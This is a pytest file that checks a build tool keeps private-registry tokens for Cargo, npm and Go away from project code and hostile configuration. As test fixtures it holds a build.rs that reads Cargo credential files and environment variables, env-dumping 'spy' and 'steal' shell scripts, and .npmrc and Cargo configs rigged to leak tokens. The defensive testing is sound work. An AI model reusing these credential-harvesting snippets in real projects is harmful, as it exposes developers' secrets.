"""Private registries: the fetch step uses the user's credentials, and nothing else ever sees or keeps them."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.canary import SECRET, USER, WRONG, basic, holds
from tests.real.examples import ROOT
from tests.real.private import Private, manifest
from tests.registries import crate, go_module, npm_package
from tests.server import CERTIFICATE, Server, serving

CRATE = """[package]
name = "app"
version = "0.1.0"
edition = "2024"
[dependencies]
secret-sauce = { version = "1", registry = "house" }
"""
CRATE_LOCK = """version = 4

[[package]]
name = "app"
version = "0.1.0"
dependencies = ["secret-sauce"]

[[package]]
name = "secret-sauce"
version = "1.0.0"
source = "%s"
checksum = "%s"
"""
BUILD_SCRIPT = """use std::{env, fs};

fn main() {
    let mut seen = format!("{:?}", env::vars_os().collect::<Vec<_>>());
    for home in [env::var("CARGO_HOME").unwrap(), env::var("HOME").unwrap() + "/.cargo"] {
        for name in ["credentials.toml", "credentials", "config.toml"] {
            seen += &fs::read_to_string(format!("{home}/{name}")).unwrap_or_default();
        }
    }
    println!("cargo::warning={seen}");
    fs::write(env::var("OUT_DIR").unwrap() + "/seen.rs", format!("const SEEN: &str = {seen:?};")).unwrap();
}
"""
CRATE_MAIN = """include!(concat!(env!("OUT_DIR"), "/seen.rs"));

fn main() {
    println!("{} {} {}", secret_sauce::answer(), SEEN.contains("CARGO_HOME"), SEEN.contains("cAnArY"));
}
"""


@pytest.fixture
def server() -> Iterator[Server]:
    with serving() as server:
        yield server


def test_F116_a_cargo_registry_behind_a_token(server: Server, tmp_path: Path) -> None:
    registry = crate(server.base, "secret-sauce", "pub fn answer() -> i32 { 42 }\n")
    index = f"sparse+{server.base}/index/"
    files = {
        "wbuild.toml": manifest("rust", "42 true false"),
        "Cargo.toml": CRATE,
        "Cargo.lock": CRATE_LOCK % (index, registry.digest),
        "build.rs": BUILD_SCRIPT,
        "src/main.rs": CRATE_MAIN,
        ".cargo/config.toml": f'[registries.house]\nindex = "{index}"\n',
    }
    project = Private.make(tmp_path / "variable", files)
    server.serve(registry.files)
    server.credentials = SECRET
    project.refused(server)
    users = {"CARGO_REGISTRIES_HOUSE_INDEX": index}
    project.refused(server, CARGO_REGISTRIES_HOUSE_TOKEN=WRONG, **users)
    server.seen.clear()
    told = project.refused(server, CARGO_REGISTRIES_HOUSE_TOKEN=SECRET)
    assert "the token of the registry house is not sent to 127.0.0.1" in told
    assert not holds(repr(server.seen).encode()), "the project alone named this host"
    project.fetched(CARGO_REGISTRIES_HOUSE_TOKEN=SECRET, **users)
    project.builds(CARGO_REGISTRIES_HOUSE_TOKEN=SECRET, **users)
    for folder, more in ((".cargo", {}), ("elsewhere", {"CARGO_HOME": str(tmp_path / "elsewhere/machine/home/elsewhere")})):
        project = Private.make(tmp_path / folder.strip("."), files)
        project.home(f"{folder}/credentials.toml", f'[registries.house]\ntoken = "{SECRET}"\n')
        server.seen.clear()
        project.refused(server, **more)
        assert not holds(repr(server.seen).encode()), "the project alone named this host"
        project.home(f"{folder}/config.toml", f'[registries.house]\nindex = "{index}"\n')
        project.fetched(**more)


SPY = """export default class Spy {
  afterParse() {
    console.log("the transform sees", JSON.stringify(process.env));
  }
}
"""


def _npm(server: Server, npmrc: str, folder: Path) -> Private:
    """A project whose dependency is a library and a program that runs in the compiler."""
    sources = {"index.js": SPY, "assembly/index.ts": "export function answer(): i32 { return 42; }\n"}
    registry = npm_package(server.base, "@house/spy", sources)
    server.serve(registry.files)
    server.credentials = f"Bearer {SECRET}"
    example = ROOT / "words-as"
    package = json.loads((example / "package.json").read_text("utf-8"))
    lock = json.loads((example / "package-lock.json").read_text("utf-8"))
    package["dependencies"]["@house/spy"] = lock["packages"][""]["dependencies"]["@house/spy"] = "1.0.0"
    lock["packages"]["node_modules/@house/spy"] = {"version": "1.0.0", "integrity": registry.digest}
    files = {
        "wbuild.toml": manifest("assemblyscript", "42", 'flags = { compile = ["--transform", "@house/spy"] }'),
        "package.json": json.dumps(package),
        "package-lock.json": json.dumps(lock),
        "asconfig.json": (example / "asconfig.json").read_text("utf-8"),
        "assembly/index.ts": 'import { answer } from "@house/spy/assembly";\nconsole.log(answer().toString());\n',
        ".npmrc": npmrc,
    }
    return Private.make(folder, files)


def test_F116_an_npm_registry_behind_a_token(server: Server, tmp_path: Path) -> None:
    place = f"@house:registry={server.base}/\n"
    token = f"{server.base.removeprefix('http:')}/:_authToken="
    project = _npm(server, f"{place}{token}${{NPM_TOKEN}}\n", tmp_path / "variable")
    project.refused(server)
    server.seen.clear()
    told = project.refused(server, NPM_TOKEN=SECRET)
    assert "_authToken is left out: no variable is sent to 127.0.0.1" in told
    assert not holds(repr(server.seen).encode()), "the project alone named this host"
    project.home(".npmrc", place)
    project.refused(server, NPM_TOKEN=WRONG)
    project.fetched(NPM_TOKEN=SECRET)
    project.builds(NPM_TOKEN=SECRET)
    (log,) = (project.here / ".wbuild/log").glob("*compile*")
    assert "the transform sees" in log.read_text("utf-8")
    for name, own, users in (("home", place, f"{token}{SECRET}\n"), ("project", f"{place}{token}{SECRET}\n", "")):
        project = _npm(server, own, tmp_path / name)
        project.home(".npmrc", users)
        project.fetched()


GO_MAIN = """package main

import (
	"os"

	"house.example/answer"
)

func main() { os.Stdout.WriteString(answer.Text) }
"""
TOOLEXEC = """#!/bin/sh
export -p >&2
exec "$@"
"""


def test_F116_a_go_proxy_behind_a_password(tmp_path: Path) -> None:
    registry = go_module("house.example/answer", {"answer.go": 'package answer\n\nconst Text = "42\\n"\n'})
    spy = tmp_path / "netrc/project/spy.sh"  # in the project, for the compile step reads and writes nothing beside it
    sums = f"house.example/answer v1.0.0 {registry.digest}\nhouse.example/answer v1.0.0/go.mod {registry.mod_digest}\n"
    files = {
        "wbuild.toml": manifest("go", "42", f'flags = {{ compile = ["-toolexec=/bin/sh {spy}"] }}'),
        "go.mod": "module app\n\ngo 1.21\n\nrequire house.example/answer v1.0.0\n",
        "go.sum": sums,
        "main.go": GO_MAIN,
        "spy.sh": TOOLEXEC,
    }
    with serving(tls=True) as server:
        server.serve(registry.files)
        server.credentials = basic()
        machine = f"machine {server.base.removeprefix('https://')} login {USER} password"
        user = {"GOPROXY": server.base, "GONOSUMDB": "house.example/*", "SSL_CERT_FILE": str(CERTIFICATE)}
        project = Private.make(tmp_path / "netrc", files)
        project.refused(server, **user)
        project.home(".netrc", f"{machine} {WRONG}\n")
        project.refused(server, **user)
        project.home(".netrc", f"{machine} {SECRET}\n")
        project.fetched(**user)
        project.builds(**user)
        (log,) = (project.here / ".wbuild/log").glob("*compile*")
        told = log.read_bytes()
        assert b"GOPROXY" in told
        assert not holds(told)
        assert server.base.encode() not in told
        within = server.base.replace("://", f"://{USER}:{SECRET}@")
        project = Private.make(tmp_path / "userinfo", files)
        project.refused(server, **{**user, "GOPROXY": within.replace(SECRET, WRONG)})
        project.fetched(**{**user, "GOPROXY": within})


STEAL = """#!/bin/sh
export -p > %s
exit 1
"""


def test_programs_and_addresses_of_a_hostile_npmrc(server: Server, tmp_path: Path) -> None:
    spy, seen = tmp_path / "steal.sh", tmp_path / "seen"
    spy.write_text(STEAL % seen, "utf-8")
    spy.chmod(0o755)
    npmrc = (
        f"registry={server.base}/${{NPM_TOKEN}}/${{CARGO_REGISTRY_TOKEN}}/\ngit={spy}\nscript-shell={spy}\nnode-options=--require {spy}\n"
    )
    project = _npm(server, npmrc, tmp_path / "hostile")
    for name in ("package.json", "package-lock.json"):
        (project.here / name).write_text(
            (project.here / name).read_text("utf-8").replace('"@house/spy": "1.0.0"', '"@house/spy": "git+https://127.0.0.1:9/x.git"')
        )
    user = {"NPM_TOKEN": SECRET, "CARGO_REGISTRY_TOKEN": SECRET, "NPM_CONFIG_REGISTRY": server.base, "NPM_CONFIG_FETCH_RETRIES": "0"}
    lock = project.here / "package-lock.json"
    locked = lock.read_text("utf-8")
    for command in ("fetch", "lock", "build"):
        if command == "lock":  # with one that fits there is nothing to do
            lock.unlink()
        else:
            lock.write_text(locked, "utf-8")
        done = project.machine.wbuild(command, cwd=project.here, **user)
        assert done.code != 0
        assert not holds((done.stdout + done.stderr).encode())
    assert not seen.exists()
    assert not holds(repr(server.seen).encode())
    assert "not used while fetching: git, script-shell, node-options" in done.stderr


def test_programs_of_a_hostile_cargo_configuration(server: Server, tmp_path: Path) -> None:
    spy, seen = tmp_path / "steal.sh", tmp_path / "seen"
    spy.write_text(STEAL % seen, "utf-8")
    spy.chmod(0o755)
    index = f"sparse+{server.base}/index/"
    registry = crate(server.base, "secret-sauce", "pub fn answer() -> i32 { 42 }\n")
    server.serve(registry.files)
    server.credentials = "nobody knows"
    files = {
        "wbuild.toml": manifest("rust", "42"),
        "Cargo.toml": CRATE,
        "Cargo.lock": CRATE_LOCK % (index, registry.digest),
        "src/main.rs": "fn main() {}\n",
        ".cargo/config.toml": f"""[registries.house]
index = "{index}"
credential-provider = ["{spy}"]
[registry]
global-credential-providers = ["{spy}"]
[build]
rustc = "{spy}"
rustc-wrapper = "{spy}"
[net]
git-fetch-with-cli = true
""",
    }
    project = Private.make(tmp_path / "hostile", files)
    user = {"NPM_TOKEN": SECRET, "CARGO_REGISTRIES_HOUSE_TOKEN": SECRET, "CARGO_REGISTRY_TOKEN": SECRET}
    told = project.refused(server, **user)
    assert "not used while fetching: registry.global-credential-providers, net.git-fetch-with-cli, registries.house" in told
    (project.here / "Cargo.lock").unlink()
    project.wbuild("lock", **user)
    assert not seen.exists()
    assert not holds(repr(server.seen).encode())
